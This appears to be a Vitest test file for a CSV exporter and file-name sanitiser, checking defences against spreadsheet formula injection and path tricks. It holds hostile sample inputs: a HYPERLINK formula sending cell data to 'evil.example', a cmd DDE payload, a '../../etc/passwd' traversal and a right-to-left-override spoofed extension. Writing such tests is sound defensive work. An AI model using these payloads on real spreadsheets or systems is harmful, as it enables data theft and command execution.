import { describe, expect, it } from "vitest";
import { csvFileName, toCsv } from "./csv";

describe("toCsv", () => {
  it("quotes what needs quoting and leaves the rest", () => {
    const text = toCsv(
      ["device", "start", "mean", "note"],
      [
        ["机床 A", 1764086400000, 0.1 + 0.2, 'say "hi", then\nleave'],
        ["B", 0, null, undefined],
      ],
    );
    expect(text).toBe(
      'device,start,mean,note\r\n机床 A,1764086400000,0.30000000000000004,"say ""hi"", then\nleave"\r\nB,0,,\r\n',
    );
  });

  it("writes non-finite numbers as empty fields and keeps edge spaces quoted", () => {
    expect(toCsv(["a", "b"], [[Number.NaN, " x"]])).toBe('a,b\r\n,\" x\"\r\n');
  });

  it("refuses rows that do not match the header", () => {
    expect(() => toCsv(["a", "b"], [[1]])).toThrow(RangeError);
  });

  it("neutralises text cells that a spreadsheet would run as formulas", () => {
    const attacks = [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      "+cmd|' /C calc'!A0",
      "@SUM(1)",
      "-2+3",
      "\tTAB-led",
      "\r=1+1",
    ];
    const text = toCsv(["text"], attacks.map((a) => [a]));
    expect(text.split("\r\n").slice(1, 5)).toEqual([
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
      "'+cmd|' /C calc'!A0",
      "'@SUM(1)",
      "'-2+3",
    ]);
    // A leading tab or CR is kept behind the quote mark, in a quoted field.
    expect(text).toContain(`"'\tTAB-led"`);
    expect(text).toContain(`"'\r=1+1"`);
  });

  it("keeps numbers numbers: a real -3.5 gets no quote mark, the string '-3.5' does", () => {
    expect(toCsv(["mean", "text"], [[-3.5, "-3.5"]])).toBe("mean,text\r\n-3.5,'-3.5\r\n");
    expect(toCsv(["a", "b"], [[-0.001, true]])).toBe("a,b\r\n-0.001,true\r\n");
  });

  it("quotes a hostile device id with quotes, commas and a line break whole", () => {
    const device = 'M1", =cmd,\n@x';
    const text = toCsv(["device", "mean"], [[device, 1]]);
    expect(text).toBe('device,mean\r\n"M1"", =cmd,\n@x",1\r\n');
    // Read back as a spreadsheet would: one field, the text unchanged.
    const quoted = text.slice("device,mean\r\n".length, text.lastIndexOf(",1\r\n"));
    expect(quoted.slice(1, -1).replaceAll('""', '"')).toBe(device);
  });

  it("neutralises a formula in a device id that also needs quoting", () => {
    expect(toCsv(["device"], [['=1+1,"x"']])).toBe('device\r\n"\'=1+1,""x"""\r\n');
  });
});

describe("csvFileName", () => {
  it("keeps ordinary ids, Chinese included", () => {
    expect(csvFileName(["windows", "机床-01", "X.pos", "1m"])).toBe("windows-机床-01-X.pos-1m.csv");
  });

  it("lets a hostile id name no folder and hide no extension", () => {
    const name = csvFileName(["windows", "../../etc/passwd", "a\u202Egpj.exe", "<img src=x>"]);
    expect(name).not.toMatch(/[/\\\u202E<> ]/);
    expect(name.endsWith(".csv")).toBe(true);
    expect(name).toBe("windows-.._.._etc_passwd-a_gpj.exe-_img_src_x_.csv");
    expect(csvFileName(["..", ""])).toBe("export.csv");
  });
});
